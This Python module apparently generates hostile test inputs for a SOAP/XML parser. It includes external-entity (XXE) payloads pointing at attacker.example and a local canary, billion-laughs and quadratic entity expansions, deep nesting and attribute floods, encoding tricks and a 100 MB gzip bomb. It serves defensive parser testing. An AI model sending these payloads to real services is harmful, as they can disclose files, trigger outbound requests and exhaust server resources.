"""Families 19 to 23: document types, amounts, encodings, compression, size."""

import gzip
from collections.abc import Iterator
from typing import Final

from lxml import etree

from hostile.scene import Family, Scene, Variant, in_first_value
from pfcng.contract.catalogue import MAX_MESSAGE_BYTES


def _document_type(scene: Scene) -> Iterator[Variant]:
    message = bytes(etree.tostring(etree.fromstring(scene.octets)))
    canary = scene.canary.as_uri().encode()
    laughs = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 11)
    )
    for label, subset in {
        "alone": b"",
        "external subset": b' SYSTEM "%s"' % canary,
        "external subset on the network": b' SYSTEM "http://attacker.example/evil.dtd"',
        "public": b' PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://attacker.example/xhtml1-strict.dtd"',
        "internal entity": b' [<!ENTITY evil "evil">]',
        "a billion laughs": b" [%s]" % laughs.replace(b"a10 ", b"evil "),
        "quadratic entity": b' [<!ENTITY evil "%s">]' % (b"a" * 50_000),
        "external entity": b' [<!ENTITY evil SYSTEM "%s">]' % canary,
        "external entity on the network": b' [<!ENTITY evil SYSTEM "http://attacker.example/evil">]',
        "parameter entity": b' [<!ENTITY %% evil SYSTEM "%s"> %%evil;]' % canary,
        "identifier declared": b" [<!ATTLIST ws:requeteDemandeCertificats other ID #IMPLIED>]",
        "default attribute": b' [<!ATTLIST SOAP-ENV:Body SOAP-SEC:id CDATA "Body">]',
    }.items():
        doctype = b"<!DOCTYPE SOAP-ENV:Envelope%s>" % subset
        yield label, doctype + message
        repeated = b"&evil;" * (20_000 if label == "quadratic entity" else 1)
        if b"evil" in subset:
            yield f"{label}, used in the Body", doctype + in_first_value(message, repeated)
    yield "after a declaration, a comment and spaces", b"<?xml version='1.0'?> <!-- --> <!DOCTYPE x>" + message
    yield "after the root", message + b"<!DOCTYPE x>"
    yield "in lower case", b"<!doctype x>" + message
    yield "entity without declaration", in_first_value(message, b"&evil;")


def _amount(scene: Scene) -> Iterator[Variant]:
    message = bytes(etree.tostring(etree.fromstring(scene.octets)))
    levels = 100_000
    yield "100 000 levels", b"<a>" * levels + b"</a>" * levels
    yield "100 000 levels, never closed", b"<a>" * levels
    for label, filling in {
        "100 000 levels in the Body": b"<a>" * levels + b"</a>" * levels,
        "200 levels in the Body": b"<a>" * 200 + b"</a>" * 200,
        "200 levels of namespaces": b"".join(b'<a xmlns:p%d="urn:%d">' % (i, i) for i in range(200)) + b"</a>" * 200,
        "100 000 namespaces": b"<a %s/>" % b" ".join(b'xmlns:p%d="urn:%d"' % (i, i) for i in range(100_000)),
        "1 000 000 attributes": b"<a %s/>" % b" ".join(b'a%d=""' % i for i in range(1_000_000)),
        "10 000 attributes": b"<a %s/>" % b" ".join(b'a%d=""' % i for i in range(10_000)),
        "1 000 namespaces over 1 000 elements": b"<a %s>%s</a>"
        % (b" ".join(b'xmlns:p%d="urn:%d"' % (i, i) for i in range(1_000)), b"<b/>" * 1_000),
        "90 000 elements": b"<a/>" * 90_000,
        "2 000 000 elements": b"<a/>" * 2_000_000,
        "90 000 comments": b"<a/>" + b"<!---->" * 90_000,
        "1 000 000 comments": b"<a/>" + b"<!---->" * 1_000_000,
        "90 000 identifiers": b"".join(b'<a id="i%d"/>' % i for i in range(90_000)),
        "long namespace name": b'<a xmlns:u="urn:%s">%s</a>' % (b"u" * 100_000, b"<u:b/>" * 10_000),
        "500 bytes of namespace name": b'<a xmlns:u="urn:%s">%s</a>' % (b"u" * 500, b"<u:b/>" * 90_000),
        "relative namespace name": b'<a xmlns:u="relative"/>',
        "1 000 000 character references": b"<a>%s</a>" % (b"&#10;" * 1_000_000),
        "long name": b"<%s/>" % (b"a" * 60_000),
        "90 000 names": b"".join(b"<a%d/>" % i for i in range(90_000)),
    }.items():
        yield label, in_first_value(message, filling)
    yield "only <", b"<" * MAX_MESSAGE_BYTES
    yield "only =", b"=" * MAX_MESSAGE_BYTES
    yield "only spaces", b" " * MAX_MESSAGE_BYTES
    yield "nothing", b""
    yield "zeros", bytes(1_000_000)
    yield "cut short", message[: len(message) // 2]
    yield "text after", message + b"evil"
    yield "twice", message + message


def _encoding(scene: Scene) -> Iterator[Variant]:
    text = etree.tostring(etree.fromstring(scene.octets), encoding="unicode")
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037"):
        declared = f"<?xml version='1.0' encoding='{name.partition('-le')[0].partition('-be')[0]}'?>{text}"
        yield f"{name}, declared", declared.encode(name)
        yield f"{name}, not declared", text.encode(name)
        yield f"{name}, in Content-Type", text.encode(name), {"Content-Type": f"text/xml; charset={name}"}
    for name in ("utf-7", "utf-16", "iso-8859-1", "windows-1252", "x-evil", ""):
        yield f"UTF-8 declared as {name!r}", f"<?xml version='1.0' encoding='{name}'?>{text}".encode()
    yield "UTF-8 announced as ISO-8859-1", scene.octets, {"Content-Type": "text/xml; charset=ISO-8859-1"}
    yield "UTF-8 announced as UTF-7", scene.octets, {"Content-Type": 'text/xml; charset="utf-7"'}
    yield "XML 1.1", f"<?xml version='1.1'?>{text}".encode()
    yield "not UTF-8", scene.octets.replace(b"</SOAP-ENV:Body>", b"\xc0\x80</SOAP-ENV:Body>")
    yield "overlong <", b"\xc0\xbc" + scene.octets
    yield "surrogate", in_first_value(text.encode(), b"\xed\xa0\x80")
    yield "zero byte", in_first_value(text.encode(), b"\0")
    yield "two byte order marks", b"\xef\xbb\xbf" * 2 + text.encode()


def _compression(scene: Scene) -> Iterator[Variant]:
    yield "gzip", gzip.compress(scene.octets), {"Content-Encoding": "gzip"}
    yield "gzip, not announced", gzip.compress(scene.octets)
    yield "gzip bomb", gzip.compress(bytes(100_000_000)), {"Content-Encoding": "gzip"}
    yield "deflate announced", scene.octets[:-1], {"Content-Encoding": "deflate"}


def _size(scene: Scene) -> Iterator[Variant]:
    for label, size in (("10 MiB", MAX_MESSAGE_BYTES), ("one byte more", MAX_MESSAGE_BYTES + 1)):
        message = bytes(etree.tostring(etree.fromstring(scene.octets)))
        short = in_first_value(message, b"")
        yield f"{label} of value", in_first_value(message, b"a" * (size - len(short)))
        yield f"{label} of white space after", message[:-1] + b" " * (size - len(message)) + b"x"
        comment = b"<!--" + b" " * (size - len(message) - 7) + b"-->"
        yield f"{label} of comment in a value", in_first_value(message, comment).ljust(size)[:size]


FAMILIES: Final[dict[int, Family]] = {
    19: Family(title="document type", variants=_document_type),
    20: Family(title="nesting and amount", variants=_amount),
    21: Family(title="encoding", variants=_encoding),
    22: Family(title="compression", variants=_compression),
    23: Family(title="size", variants=_size),
}
